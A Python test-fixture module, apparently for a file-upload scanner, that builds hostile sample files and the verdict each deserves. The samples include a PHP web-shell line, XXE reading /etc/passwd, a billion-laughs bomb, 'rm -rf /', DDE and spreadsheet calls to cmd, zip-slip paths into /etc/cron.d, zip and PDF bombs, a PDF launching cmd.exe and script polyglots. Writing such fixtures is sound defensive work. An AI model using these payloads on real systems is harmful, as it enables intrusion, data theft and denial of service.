"""Files that strangers may send to do harm, each made on the spot, with the answer it deserves."""

import bz2
import gzip
import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

from pikepdf import Array, Dictionary, Encryption, Name, Permissions, Stream

from lapor.files.scanning import EICAR
from tests.files import made
from tests.files.made import docx, docx_parts, image, odf, pdf, pptx, relations, saved, xlsx, zipped

SCRIPT = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET['x']); ?>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><l>&i;</l>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
MZ = b"MZ\x90\x00\x03" + bytes(58) + b"PE\0\0" + bytes(400)


@dataclass(frozen=True)
class Case:
    """answer: a fault, or the kind of the clean copy; gone: what must not be in that copy."""

    name: str
    make: Callable[[], bytes]
    answer: str
    gone: tuple[bytes, ...] = ()


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


def truncated_image(form: str) -> bytes:
    return truncated(image(form, size=(200, 200)))


def heif() -> bytes:
    return image("HEIF")


def giant_heif() -> bytes:
    whole = bytearray(heif())
    at = whole.index(b"ispe") + 8
    whole[at : at + 8] = struct.pack(">II", 60_000, 60_000)
    return bytes(whole)


def broken_crc() -> bytes:
    whole = bytearray(image("PNG"))
    whole[whole.index(b"IDAT") + 8] ^= 0xFF
    return bytes(whole)


def giant_webp() -> bytes:
    whole = bytearray(image("WEBP", lossless=True))
    at = whole.index(b"VP8L") + 9  # fourteen bits each, less one
    whole[at : at + 4] = struct.pack("<I", 0x0FFFFFFF)
    return bytes(whole)


def giant_gif() -> bytes:
    whole = bytearray(image("GIF"))
    whole[6:10] = b"\xff\xff\xff\xff"
    return bytes(whole)


def giant_bmp() -> bytes:
    whole = bytearray(image("BMP"))
    whole[18:26] = struct.pack("<ii", 60_000, 60_000)
    return bytes(whole)


def gif_that_runs() -> bytes:
    """Begins as a GIF and goes on as a script that a browser would run."""
    return b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)//"


def gif_with_comment() -> bytes:
    return image("GIF", comment=b"*/=1;alert(1)//")


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/cron.d/x"), io.BytesIO())
    return out.getvalue()


def avif() -> bytes:
    return b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf".replace(b"mif1", b"MA1A") + bytes(200)


def mp4() -> bytes:
    return b"\0\0\0\x18ftypisom\0\0\2\0isomiso2mp41" + bytes(200)


def encrypted_zip(content: bytes) -> bytes:
    """Set the flag of each entry, in both places where it stands."""
    whole = bytearray(content)
    for start, flag in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = whole.find(start)
        while at >= 0:
            whole[at + flag] |= 1
            at = whole.find(start, at + 4)
    return bytes(whole)


def zip_that_lies() -> bytes:
    """Says that an entry is small when it is not."""
    whole = bytearray(docx({"word/styles.xml": b"<a/>" + b" " * 900_000}))
    for start, where in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = whole.find(start)
        while at >= 0:
            if b"word/styles.xml" in whole[at : at + 80]:
                whole[at + where : at + where + 4] = struct.pack("<I", 4)
            at = whole.find(start, at + 4)
    return bytes(whole)


def docx_entry(name: str, mode: int = 0) -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def docx_twice() -> bytes:
    """Two entries of one name: who checks reads the first, who opens the second."""
    whole = docx({"word/documenu.xml": "<a/>"})
    return whole.replace(b"word/documenu.xml", b"word/document.xml")


def nested() -> bytes:
    innermost = docx()
    inner = docx({"word/embeddings/a.docx": innermost})
    return docx({"word/embeddings/a.docx": inner})


def bomb(size: int = 150 << 20) -> bytes:
    """Zeros, packed a thousand to one."""
    return docx({"word/styles.xml": bytes(size)})


def matryoshka() -> bytes:
    """Archives in archives, as 42.zip."""
    whole = zipped({"0": bytes(1 << 20)})
    for _ in range(4):
        whole = zipped({f"{n}.zip": whole for n in range(8)})
    return whole


def with_annotation(subtype: str, **more: Any) -> bytes:
    document = pdf()
    note = Dictionary(
        Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([50, 50, 300, 300]), **more
    )
    document.pages[0].Annots = Array([document.make_indirect(note)])
    return saved(document)


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def pdf_with_file() -> bytes:
    document = pdf()
    document.attachments["jahat.exe"] = MZ
    return saved(document)


def pdf_with_xfa() -> bytes:
    document = pdf()
    xfa = Stream(document, b"<xdp><script>app.alert(1)</script></xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return saved(document)


def pdf_with_field() -> bytes:
    document = pdf()
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="isian", V="terisi",
        Rect=Array([50, 50, 300, 90]), DA="/Helv 12 Tf 0 g",
    )  # fmt: skip
    held = document.make_indirect(field)
    document.pages[0].Annots = Array([held])
    document.Root.AcroForm = Dictionary(Fields=Array([held]), NeedAppearances=True)
    return saved(document)


def pdf_with_layer() -> bytes:
    document = pdf()
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name="tersembunyi"))
    document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
    return saved(document)


def pdf_with_picture(width: int, height: int, *, whole: bool = False) -> bytes:
    """A page with a picture that says it is so large."""
    document = pdf(1)
    pixels = zlib.compress(bytes(width * height) if whole else bytes(1000))
    drawn = Stream(document, pixels)
    drawn.Type, drawn.Subtype, drawn.Filter = Name.XObject, Name.Image, Name.FlateDecode
    drawn.Width, drawn.Height, drawn.BitsPerComponent = width, height, 8
    drawn.ColorSpace = Name.DeviceGray
    page = document.pages[0]
    page.Resources.XObject = Dictionary(X=drawn)
    page.Contents = Stream(document, b"q 500 0 0 700 0 0 cm /X Do Q")
    return saved(document, compress_streams=False)


def pdf_that_inflates() -> bytes:
    document = pdf(1)
    packed = zlib.compress(b"0 0 m 1 1 l S\n" * (20 << 20), 9)
    drawn = Stream(document, packed)
    drawn.Filter = Name.FlateDecode
    document.pages[0].Contents = drawn
    return saved(document, compress_streams=False)


def pdf_that_bites_its_tail() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def pdf_that_never_ends_drawing() -> bytes:
    """Forms that draw each other ten times, nine deep."""
    document = pdf(1)
    inner = Stream(document, b"0 0 m 9 9 l S")
    inner.Type, inner.Subtype, inner.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    for _ in range(9):
        outer = Stream(document, b"/X Do " * 10)
        outer.Type, outer.Subtype, outer.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
        outer.Resources = Dictionary(XObject=Dictionary(X=inner))
        inner = outer
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=inner))
    document.pages[0].Contents = Stream(document, b"/X Do")
    return saved(document)


def pdf_of_paper(side: int, **root: Any) -> bytes:
    document = pdf(1, **root)
    document.pages[0].MediaBox = Array([0, 0, side, side])
    return saved(document)


def locked_pdf(user: str) -> bytes:
    allow = Permissions(extract=False, modify_other=False)
    return saved(pdf(), encryption=Encryption(user=user, owner="pemilik", allow=allow))


def pdf_with_note() -> bytes:
    return with_annotation("Text", Contents="catatan", T="Kenari Sangkarwati")


def field(*parts: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return f"<w:p>{runs}</w:p>"


def linked(kind: str, target: str) -> bytes:
    rows = relations((kind, target, "External"))
    return docx({"word/_rels/document.xml.rels": rows})


def typed(kind: str) -> bytes:
    return zipped(
        dict(docx_parts()) | {"[Content_Types].xml": made.types("word/document.xml", kind)}
    )


WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
JS = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg">'

PICTURES = [
    Case("jpeg with php in a comment", lambda: made.jpeg_with(0xFE, PHP), "image", (b"<?php",)),
    Case("jpeg followed by a zip", lambda: image() + zipped({"a": "b"}), "image", (b"PK\3\4",)),
    Case("jpeg followed by a page", lambda: image() + SCRIPT, "image", (b"<script",)),
    Case("png with a page in a chunk", lambda: made.png_with(b"tEXt", b"a\0" + SCRIPT), "image",
         (b"<script",)),
    Case("png with an unknown chunk", lambda: made.png_with(b"haXx", PHP), "image", (b"<?php",)),
    Case("png whose text inflates",
         lambda: made.png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 << 20))), "broken"),
    Case("gif with a script in a comment", gif_with_comment, "image", (b"alert",)),
    Case("gif that is a script", gif_that_runs, "broken"),
    Case("giant png", lambda: made.png_of(100_000, 100_000), "pixels"),
    Case("png like a thread", lambda: made.png_of(20_000, 1), "pixels"),
    Case("giant jpeg", lambda: made.jpeg_of(65_000, 65_000), "pixels"),
    Case("giant webp", giant_webp, "pixels"),
    Case("giant gif", giant_gif, "pixels"),
    Case("giant bmp", giant_bmp, "pixels"),
    Case("giant heic", giant_heif, "broken"),
    *(Case(f"truncated {form}", partial(truncated_image, form), "broken")
      for form in ("JPEG", "PNG", "GIF", "WEBP", "BMP", "HEIF")),
    Case("heic with nothing but its head", lambda: heif()[:60], "broken"),
    Case("png with a wrong sum", broken_crc, "broken"),
    Case("png that stops at its head", lambda: made.png_of(10, 10), "broken"),
    Case("jpeg of two bytes more than its mark", lambda: b"\xff\xd8\xff\xe0", "broken"),
    Case("moving png", lambda: made.moving("PNG"), "image", (b"acTL", b"fdAT")),
    Case("moving gif", lambda: made.moving("GIF"), "image", (b"NETSCAPE",)),
    Case("moving webp", lambda: made.moving("WEBP"), "image"),
    Case("avif", avif, "type"),
    Case("tiff", lambda: image("TIFF"), "type"),
    Case("icon", lambda: image("ICO"), "type"),
    Case("postscript", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", "type"),
    Case("svg with a script", lambda: DRAWING + SCRIPT + b"</svg>", "type"),
    Case("svg after a space", lambda: b"\n\n  " + DRAWING + b"</svg>", "type"),
]  # fmt: skip

STRANGERS = [
    Case("nothing", lambda: b"", "empty"),
    Case("one byte of nothing", lambda: b"\0", "type"),
    Case("spaces", lambda: b" \n\t ", "empty"),
    Case("one letter", lambda: b"x", "text"),
    Case("text with nothing in between", lambda: b"a\0b\0", "type"),
    Case("utf-16 text", lambda: "Jalan rusak".encode("utf-16"), "text", (b"\xff\xfe", b"\0")),
    Case("half of utf-16", lambda: "Jalan".encode("utf-16")[:-1], "type"),
    Case("text of another alphabet", lambda: b"caf\xe9 di jalan", "type"),
    Case("text that turns about", lambda: "foto\u202egpj.exe".encode(), "text",
         ("\u202e".encode(),)),
    Case("text that rings", lambda: b"Jalan\x07 rusak di depan rumah saya sejak lama sekali. " * 9,
         "text", (b"\x07",)),
    Case("text of control signs", lambda: b"\x1b[2J\x1b[H" * 40, "type"),
    Case("table that calls a program", lambda: b"=cmd|' /C calc'!A0,2\n", "text"),
    Case("page", lambda: b"<!DOCTYPE html><html>" + SCRIPT, "type"),
    Case("page behind words", lambda: b"Selamat pagi\n" + SCRIPT, "type"),
    Case("php", lambda: b"Selamat " + PHP, "type"),
    Case("shell script", lambda: b"#!/bin/sh\nrm -rf /", "type"),
    Case("batch", lambda: b"@echo off\r\ndel *", "type"),
    Case("program of windows", lambda: MZ, "type"),
    Case("program of linux", lambda: b"\x7fELF\2\1\1" + bytes(300), "type"),
    Case("rtf", lambda: b"{\\rtf1{\\object\\objdata 0105}}", "type"),
    Case("page as a letter", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related", "type"),
    Case("letter", lambda: b"From: a@example.org\nContent-Type: multipart/mixed; b", "type"),
    Case("shortcut", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(80), "type"),
    Case("video", mp4, "type"),
    Case("sound", lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(40), "type"),
    Case("music", lambda: b"ID3\3\0\0\0\0\0\0\xff\xfb\x90\x00" + bytes(300), "type"),
    Case("zip", lambda: zipped({"a.txt": "a"}), "type"),
    Case("zip with a program", lambda: zipped({"a.exe": MZ}), "type"),
    Case("zip bomb", lambda: zipped({"a": bytes(60 << 20)}), "type"),
    Case("zips in zips", matryoshka, "type"),
    Case("locked zip", lambda: encrypted_zip(zipped({"a": "b"})), "type"),
    Case("zip with a way out", lambda: zipped({"../../etc/cron.d/x": "x"}), "type"),
    Case("jar", lambda: zipped({"META-INF/MANIFEST.MF": "", "A.class": b"\xca\xfe\xba\xbe"}),
         "type"),
    Case("book", lambda: zipped({"mimetype": "application/epub+zip", "a.xhtml": SCRIPT}), "type"),
    Case("rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(90), "type"),
    Case("7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(90), "type"),
    Case("tar", tar, "type"),
    Case("gzip", lambda: gzip.compress(b"a" * 999), "type"),
    Case("bzip2", lambda: bz2.compress(b"a" * 999), "type"),
    Case("xz", lambda: lzma.compress(b"a" * 999), "type"),
    Case("old word document", lambda: OLE, "type"),
    Case("locked word document", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "locked"),
    Case("eicar", lambda: EICAR, "virus"),
    Case("eicar behind a picture", lambda: image() + EICAR, "virus"),
]  # fmt: skip

PDFS = [
    Case("pdf with a script at its opening", lambda: saved(pdf(OpenAction=JS)), "pdf",
         (b"JavaScript", b"app.alert")),
    Case("pdf with a script among its names",
         lambda: saved(pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", JS]))))),
         "pdf", (b"JavaScript",)),
    Case("pdf that starts a program",
         lambda: saved(pdf(OpenAction=action("Launch", F="cmd.exe"))), "pdf", (b"cmd.exe",)),
    Case("pdf that calls home",
         lambda: saved(pdf(OpenAction=action("SubmitForm", F="http://example.org"))), "pdf",
         (b"example.org",)),
    Case("pdf with a link", lambda: with_annotation(
        "Link", A=action("URI", URI="http://example.org")), "pdf", (b"example.org",)),
    Case("pdf with a program inside", pdf_with_file, "pdf", (b"jahat", b"MZ\x90")),
    Case("pdf with a form of another kind", pdf_with_xfa, "pdf", (b"xdp",)),
    Case("pdf with a filled form", pdf_with_field, "pdf", (b"AcroForm", b"Widget")),
    Case("pdf with a film", lambda: with_annotation("RichMedia"), "pdf", (b"RichMedia",)),
    Case("pdf with a note by somebody", pdf_with_note, "pdf", (b"Sangkarwati",)),
    Case("pdf with a hidden layer", pdf_with_layer, "pdf", (b"tersembunyi",)),
    Case("pdf with a zip behind it", lambda: saved(pdf()) + zipped({"a": "b"}), "pdf",
         (b"PK\3\4",)),
    Case("pdf behind a page", lambda: b"<html>" + saved(pdf()), "type"),
    Case("pdf of 501 pages", lambda: saved(pdf(501)), "bomb"),
    Case("pdf of 101 pages with a script", lambda: saved(pdf(101, OpenAction=JS)), "bomb"),
    Case("pdf of giant paper", lambda: pdf_of_paper(14_400), "pdf"),
    Case("pdf of giant paper with a script", lambda: pdf_of_paper(1_000_000, OpenAction=JS), "pdf"),
    Case("pdf with a giant picture", lambda: pdf_with_picture(60_000, 60_000), "pdf"),
    Case("pdf whose words inflate", pdf_that_inflates, "bomb"),
    Case("pdf that draws without end", pdf_that_never_ends_drawing, "bomb"),
    Case("pdf that bites its tail", pdf_that_bites_its_tail, "broken"),
    Case("locked pdf", lambda: locked_pdf("sandi"), "locked"),
    Case("pdf that may not be copied", lambda: locked_pdf(""), "pdf", (b"/Encrypt",)),
    Case("truncated pdf", lambda: truncated(saved(pdf(1))), "pdf"),  # its pages were still there
    Case("pdf that is none", lambda: b"%PDF-1.7\n" + bytes(300), "broken"),
    Case("pdf without pages", lambda: saved(pdf(0)), "broken"),
]  # fmt: skip

OFFICE = [
    Case("word with macros", lambda: docx({"word/vbaProject.bin": OLE}), "active"),
    Case("word that says it has macros", lambda: typed(WORD_MACRO), "active"),
    Case("excel with macros", lambda: xlsx({"xl/vbaProject.bin": OLE}), "active"),
    Case("excel with a sheet of macros", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}),
         "active"),
    Case("powerpoint with macros", lambda: pptx({"ppt/vbaProject.bin": OLE}), "active"),
    Case("word with a foreign object", lambda: docx({"word/embeddings/oleObject1.bin": OLE}),
         "active"),
    Case("word with a control", lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "active"),
    Case("word with a program", lambda: docx({"word/media/a.exe": MZ}), "active"),
    Case("word with a page inside", lambda: docx({"word/afchunk.html": SCRIPT}), "active"),
    Case("word with a template elsewhere",
         lambda: linked("attachedTemplate", "http://example.org/a.dotm"), "active"),
    Case("word with a template in the network",
         lambda: linked("attachedTemplate", "file://example.org/a.dotm"), "active"),
    Case("word with a picture elsewhere", lambda: linked("image", "http://example.org/a.png"),
         "active"),
    Case("word with an object elsewhere", lambda: linked("oleObject", "http://example.org/a"),
         "active"),
    Case("word with a link that is a script", lambda: linked("hyperlink", "javascript:alert(1)"),
         "office", (b"alert",)),
    Case("word that calls a program", lambda: docx(body=field('DDEAUTO c:\\\\cmd "/k calc"')),
         "active"),
    Case("word that spells the call over runs", lambda: docx(body=field("DD", "EAUTO", " c")),
         "active"),
    Case("excel with cells of another file", lambda: xlsx({"xl/externalLinks/a.xml": "<a/>"}),
         "active"),
    Case("word that reads our files", lambda: docx({"word/styles.xml": XXE}), "active"),
    Case("word that laughs a billion times", lambda: docx({"word/styles.xml": LAUGHS}), "active"),
    Case("word that laughs in utf-16", lambda: docx({"word/styles.xml": LAUGHS.encode("utf-16")}),
         "active"),
    Case("word of 150 megabytes", bomb, "bomb"),
    Case("word of thirty megabytes packed well", lambda: bomb(30 << 20), "bomb"),
    Case("word of 3000 entries",
         lambda: docx({f"word/p{n}.xml": "<a/>" for n in range(3000)}), "bomb"),
    Case("word in word in word", nested, "bomb"),
    Case("word that lies about its size", zip_that_lies, "broken"),
    Case("word with a way out", lambda: docx_entry("../../../etc/cron.d/x.xml"), "broken"),
    Case("word with a way from the top", lambda: docx_entry("/etc/x.xml"), "broken"),
    Case("word with a link of the file system",
         lambda: docx_entry("word/media/a.png", stat.S_IFLNK | 0o777), "broken"),
    Case("word with two documents", docx_twice, "broken"),
    Case("word with locked entries", lambda: encrypted_zip(docx()), "locked"),
    Case("word with a drawing that acts",
         lambda: docx({"word/media/a.svg": DRAWING + SCRIPT + b"</svg>"}), "active"),
    Case("word with a giant picture",
         lambda: docx({"word/media/a.png": made.png_of(90_000, 90_000)}), "pixels"),
    Case("word with php in a picture",
         lambda: docx({"word/media/a.jpg": made.jpeg_with(0xFE, PHP)}), "office", (b"<?php",)),
    Case("word that is not well formed", lambda: docx({"word/styles.xml": "<a><b></a>"}), "broken"),
    Case("truncated word", lambda: truncated(docx()), "broken"),
    Case("word without a document", lambda: zipped({"[Content_Types].xml": "<Types/>"}), "type"),
    Case("writer with macros", lambda: odf({"Basic/Standard/Module1.xml": "<a/>"}), "active"),
    Case("writer with a script", lambda: odf({"Scripts/python/a.py": "import os"}), "active"),
    Case("writer that listens", lambda: odf(
        body='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), "active"),
    Case("writer with a picture elsewhere", lambda: odf(
        body='<draw:image xlink:href="http://example.org/a.png"/>'), "active"),
    Case("writer with cells of another file", lambda: odf(body="<text:dde-connection-decl/>"),
         "active"),
    Case("locked writer", lambda: odf(inside="<m:encryption-data/>"), "locked"),
    Case("writer with a link that is a script", lambda: odf(
        body='<text:a xlink:href="javascript:alert(1)">a</text:a>'), "office", (b"alert",)),
    Case("database of libreoffice", lambda: odf(kind="base"), "type"),
]  # fmt: skip

CASES = [*PICTURES, *STRANGERS, *PDFS, *OFFICE]
